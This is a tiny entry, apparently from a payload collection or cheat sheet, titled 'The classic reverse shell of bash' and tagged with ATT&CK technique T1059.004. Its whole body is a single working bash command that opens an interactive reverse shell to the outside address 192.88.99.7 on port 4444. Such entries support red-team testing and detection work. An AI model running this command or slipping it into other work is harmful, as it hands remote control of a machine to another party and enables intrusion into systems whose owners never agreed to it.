# title: The classic reverse shell of bash
# technique: T1059.004
# needs: bash
# short: yes

bash -c 'bash -i >& /dev/tcp/192.88.99.7/4444 0>&1'
